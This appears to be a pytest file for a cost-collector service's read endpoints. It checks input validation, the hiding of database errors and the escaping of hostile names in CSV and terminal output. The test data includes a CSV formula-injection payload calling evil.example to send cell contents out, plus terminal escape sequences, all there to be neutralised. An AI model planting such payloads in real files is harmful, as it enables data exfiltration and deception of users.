"""The read endpoints' edges, over the real binaries: the read endpoints
(/v1/rollups, /v1/costs, /v1/rows, /v1/whoami, /readyz) and `vgcollector rollup`.
Bad input is a 400 naming the parameter, decided before PostgreSQL sees it;
database failures reach the client in our words with the request id, never the
database's text; /v1/costs states the range it used; CSV and terminal output
neutralise hostile names."""

import csv
import io
import subprocess
import time

import httpx
import pytest

from conftest import VGC, Db, make_row, run_vgc, sanitizer_env, wait_until


def raw_get(collector, path, query, key):
    """GET with the query string sent byte for byte as written (%ff stays %ff)."""
    return httpx.get(f"{collector.url}{path}?{query}", timeout=30,
                     headers={"Authorization": f"Bearer {key}"})


# ---- bad input is a 400 naming the parameter ------------------------------

# Every bad value is a named case in tests/unit/test_rollup_errors.c, which calls
# the parser directly. Over HTTP, what needs the wire: bytes that are not UTF-8,
# controls and a NUL byte, sent percent-encoded exactly as written, one per endpoint.
BAD_INPUT = [
    # (path, raw query, the parameter the error must name)
    ("/v1/rollups", "agent=%ff", "agent"),
    ("/v1/rollups", "tenant=%1b%5b31m", "tenant"),
    ("/v1/costs", "project=%c3%28", "project"),
    ("/v1/rows", "session_id=a%00b", "session_id"),
]


@pytest.mark.parametrize("path,query,param", BAD_INPUT, ids=[f"{p}?{q}" for p, q, _ in BAD_INPUT])
def test_bad_read_input_is_400_naming_the_parameter(db, collector, path, query, param):
    read = db.create_key("read")
    r = raw_get(collector, path, query, read)
    assert r.status_code == 400, (r.status_code, r.text)
    msg = r.json()["error"]
    assert msg.startswith(param + ":"), msg
    for internal in ("out of range", "invalid byte sequence", "interval", "SQL", "ERROR"):
        assert internal not in msg, msg


def test_time_range_limits_are_inclusive_of_1970_and_year_9999(db, collector):
    read = db.create_key("read")
    ok = raw_get(collector, "/v1/rows", "from=1970-01-01&to=9999-12-31T23:59:59Z", read)
    assert ok.status_code == 200, ok.text
    ok = raw_get(collector, "/v1/costs", "start=9999-12-31T23:00:00Z&end=9999-12-31", read)
    assert ok.status_code == 200, ok.text
    assert ok.json()["to"] == "10000-01-01T00:00:00Z"
    bad = raw_get(collector, "/v1/rows", "from=1969-12-31T23:59:59Z", read)
    assert bad.status_code == 400 and bad.json()["error"].startswith("from:"), bad.text
    # a cursor the endpoint really returned still works
    key = db.create_key("ingest")
    rows = [make_row(i, timestamp=time.time() - 60 - i) for i in range(3)]
    assert collector.post("/v1/ingest", json=rows, key=key).status_code == 200
    page = raw_get(collector, "/v1/rows", "limit=2", read).json()
    nxt = raw_get(collector, "/v1/rows", f"limit=2&next={page['next']}", read)
    assert nxt.status_code == 200 and len(nxt.json()["rows"]) == 1, nxt.text


# ---- database failures in our words, with the request id ------------------

LEAKS = ("socket", ".s.PGSQL", "PostgreSQL", "postgres", "FATAL", "ERROR", "does not exist",
         "server closed", "terminating", "column", "relation")


def assert_no_internals(r, pg_dir, dbname):
    body = r.text
    assert pg_dir not in body and dbname not in body, body
    for word in LEAKS:
        assert word not in body, (word, body)


def test_database_down_503_bodies_hide_internals_and_carry_the_request_id(pg, collectors):
    d = Db(pg, pg.createdb()).migrate()
    c = collectors(d)
    read = d.create_key("read")
    assert c.get("/v1/rollups", key=read).status_code == 200
    assert c.get("/readyz").status_code == 200
    d.close()
    admin = pg.connect()
    try:
        with admin.cursor() as cur:
            cur.execute(f"DROP DATABASE {d.name} WITH (FORCE)")
    finally:
        admin.close()
    for path in ("/v1/rollups", "/v1/costs", "/v1/rows", "/v1/rollups?format=csv"):
        r = c.get(path, key=read)
        assert r.status_code == 503, (path, r.status_code, r.text)
        assert r.headers.get("Retry-After"), path
        rid = r.headers["X-Request-Id"]
        assert r.json()["request_id"] == rid and rid in r.json()["error"], r.text
        assert_no_internals(r, pg.dir, d.name)
        # the database's text is in the log, under the same request id
        log = [l for l in c.output().splitlines() if rid in l and "retry shortly: " in l]
        assert len(log) == 1 and log[0].split("retry shortly: ", 1)[1].strip('" '), log
    r = c.get("/v1/whoami", key=read)
    assert r.status_code in (200, 503), r.text
    assert_no_internals(r, pg.dir, d.name)

    def unready():
        r = c.get("/readyz")
        return r if r.status_code == 503 else None

    r = wait_until(unready, 15, "/readyz answering 503")
    assert "database unreachable" in r.json()["error"]
    assert_no_internals(r, pg.dir, d.name)


def test_database_error_500_bodies_hide_internals(db, collector):
    read = db.create_key("read")
    # The live hours, the view every read sums (a renamed column of the
    # hourly table would be followed by the view), and the daily tables.
    renames = [(("vgc_rollup_hourly_live", "cost_rollup_daily", "cost_rollup_tenant_daily"),
                "requests", "requests_gone",
                ("/v1/rollups", "/v1/costs")),
               (("cost_rows",), "revision", "revision_gone", ("/v1/rows",))]
    for tables, col, new, paths in renames:
        for table in tables:
            db.query(f"ALTER TABLE {table} RENAME COLUMN {col} TO {new}")
        try:
            for path in paths:
                r = collector.get(path, key=read)
                assert r.status_code == 500, (path, r.status_code, r.text)
                rid = r.headers["X-Request-Id"]
                assert r.json()["request_id"] == rid and rid in r.json()["error"], r.text
                assert new not in r.text and col not in r.text, r.text
                assert_no_internals(r, db.cluster.dir, db.name)
        finally:
            for table in tables:
                db.query(f"ALTER TABLE {table} RENAME COLUMN {new} TO {col}")


# ---- /v1/costs states the range it used --------------------------------------

def iso(ts):
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(ts))


def test_costs_with_only_start_answers_the_end_it_used(db, collector):
    key = db.create_key("ingest")
    read = db.create_key("read")
    now = time.time()
    row = make_row(0, timestamp=now - 30, cost_usd=1.25)
    assert collector.post("/v1/ingest", json=[row], key=key).status_code == 200
    before = (int(time.time()) // 3600 + 1) * 3600
    r = collector.get("/v1/costs", key=read, params={"start": "2020-01-01"})
    after = (int(time.time()) // 3600 + 1) * 3600
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["from"] == "2020-01-01T00:00:00Z"
    assert body["to"] in (iso(before), iso(after)), body
    assert body["total"] == 1.25
    # the stated range is the range summed: asking for it explicitly gives the same
    same = collector.get("/v1/costs", key=read, params={"start": body["from"], "end": body["to"]})
    assert same.json()["total"] == body["total"]
    future = collector.get("/v1/costs", key=read, params={"start": iso(after + 3600)})
    assert future.status_code == 400 and future.json()["error"].startswith("start"), future.text


# ---- CSV and terminal output are neutralised ---------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = {
    FORMULA: "'" + FORMULA,
    "+1+2": "'+1+2",
    "-2+3": "'-2+3",
    "@SUM(1)": "'@SUM(1)",
    "\tx": "'\tx",
    "\rx": "'\rx",
    "plain, name": "plain, name",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\": None,
    "c1\u009b31mred\x7f": None,
}


def csv_cells(text):
    return {row[0]: row for row in csv.reader(io.StringIO(text, newline=""))}


def test_csv_and_cli_output_neutralise_hostile_names(db, collector):
    key = db.create_key("ingest")
    read = db.create_key("read")
    rows = [make_row(i, agent_id=name, timestamp=time.time() - 60)
            for i, name in enumerate(HOSTILE)]
    r = collector.post("/v1/ingest", json=rows, key=key)
    assert r.status_code == 200 and r.json()["accepted"] == len(rows), r.text
    params = {"granularity": "total", "group_by": "agent", "format": "csv"}

    api = collector.get("/v1/rollups", key=read, params=params)
    assert api.status_code == 200
    cells = csv_cells(api.text)
    for name, want in HOSTILE.items():
        if want is not None:
            assert want in cells, (name, sorted(cells))
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in api.text
    for name in cells:
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r")), name
    # numbers are ours and never touched
    assert all(row[1].isdigit() for n, row in cells.items() if n != "agent")

    raw = collector.get("/v1/rollups", key=read, params={**params, "csv_raw": "1"})
    assert raw.status_code == 200
    raw_cells = csv_cells(raw.text)
    for name in HOSTILE:
        assert name in raw_cells, name

    def cli(*args):
        return subprocess.run([VGC, "rollup", "--granularity", "total", "--by", "agent", *args,
                               "--db", db.conninfo], capture_output=True, env=sanitizer_env(),
                              timeout=60)

    c = cli("--csv")
    assert c.returncode == 0, c.stderr
    assert c.stdout == api.content
    c = cli("--csv-raw")
    assert c.returncode == 0, c.stderr
    assert c.stdout == raw.content

    t = cli()
    assert t.returncode == 0, t.stderr
    out = t.stdout
    assert b"\x1b" not in out and b"\xc2\x9b" not in out and b"\x7f" not in out, out
    assert b"\r" not in out and b"\t" not in out, out
    text = out.decode("utf-8")
    assert "\\x1b]8;;http://evil.example\\x1b\\\\click" in text, text
    assert "c1\\u009b31mred\\x7f" in text, text
    lines = [l for l in text.splitlines()[2:] if l.strip()]
    assert len({len(l) for l in lines}) == 1, lines  # every line as wide: aligned


def test_cli_refuses_control_characters_in_options(db):
    r = run_vgc("rollup", "--agent", "a\x1bb", "--db", db.conninfo)
    assert r.returncode == 2 and "rollup: agent: " in r.stderr and "\x1b" not in r.stderr, r.stderr
